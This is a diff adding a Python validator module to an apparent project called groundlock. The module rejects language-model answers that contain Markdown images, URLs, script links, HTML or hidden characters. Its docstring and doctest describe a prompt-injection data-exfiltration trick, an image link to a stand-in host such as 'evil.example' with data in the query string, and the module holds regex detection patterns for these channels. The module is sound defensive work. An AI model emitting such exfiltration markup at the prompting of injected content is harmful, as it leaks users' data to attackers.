@@ -1,0 +1,60 @@
+"""Output a client could render into an action: links, images, markup, script, hidden text.
+
+An answer goes to readers through UIs that may render Markdown or HTML (OWASP LLM05,
+improper output handling). Hostile evidence can ask a model to emit an image whose URL
+carries data out (``![x](https://evil/?q=...)``), a script, a ``javascript:`` link, or text
+hidden in invisible characters. groundlock does not encode or strip such output — the
+validator never edits — it rejects the answer. Plain text is all an answer needs.
+
+Tags that are prompt structure or reasoning traces (``<evidence>``, ``<think>``) are left
+to the leak and meta-commentary checks, which name them more precisely.
+"""
+
+from __future__ import annotations
+
+import re
+
+from groundlock.text.sanitize import FENCE_TAG_NAMES, HIDDEN_CHARACTERS_PATTERN
+
+__all__ = ["REASONING_TAG_NAMES", "unsafe_output"]
+
+REASONING_TAG_NAMES: tuple[str, ...] = ("think", "thinking", "reasoning", "analysis", "scratchpad")
+"""Tags models wrap reasoning traces in."""
+
+_PROSE_TAGS = "|".join((*FENCE_TAG_NAMES, *REASONING_TAG_NAMES))
+_CHECKS: tuple[tuple[str, re.Pattern[str]], ...] = (
+    ("a hidden or control character", re.compile(HIDDEN_CHARACTERS_PATTERN)),
+    ("a Markdown image", re.compile(r"!\[[^\]\n]*\]\s*[(\[]")),
+    (
+        "a URL",
+        re.compile(
+            r"(?i)\bhttps?\s*:|\b(?:ftps?|file|wss?)\s*:\s*//|\bmailto\s*:"
+            r"|\bwww\.[^\W_]"
+            r"|(?<![\w:/])//[^\W_][\w-]*(?:\.[\w-]+)+"
+            r"|\bdata\s*:\s*[a-z]+/"
+        ),
+    ),
+    ("a script URL", re.compile(r"(?i)\b(?:java|vb|live)script\s*:")),
+    # ``<C0>`` and ``[C<n>]`` are anchors gone wrong, not markup: the anchor check names them.
+    (
+        "an HTML tag",
+        re.compile(rf"(?i)<\s*/?\s*(?!(?:{_PROSE_TAGS}|n)\s*>|c\s*\d)[a-z!?]"),
+    ),
+    ("an HTML entity", re.compile(r"&(?:#[0-9]+|#[xX][0-9a-fA-F]+|[A-Za-z][A-Za-z0-9]{1,31});")),
+)
+
+
+def unsafe_output(text: str) -> str | None:
+    """What makes ``text`` unsafe to hand to a renderer, or None if it is plain text.
+
+    >>> unsafe_output("Torque to 45 Nm. [C0]") is None
+    True
+    >>> unsafe_output("See ![chart](https://evil.example/?q=secret)")
+    'a Markdown image'
+    >>> unsafe_output("Pressure < 3 bar and flow > 2 l/min. [C1]") is None
+    True
+    """
+    for kind, pattern in _CHECKS:
+        if pattern.search(text):
+            return kind
+    return None
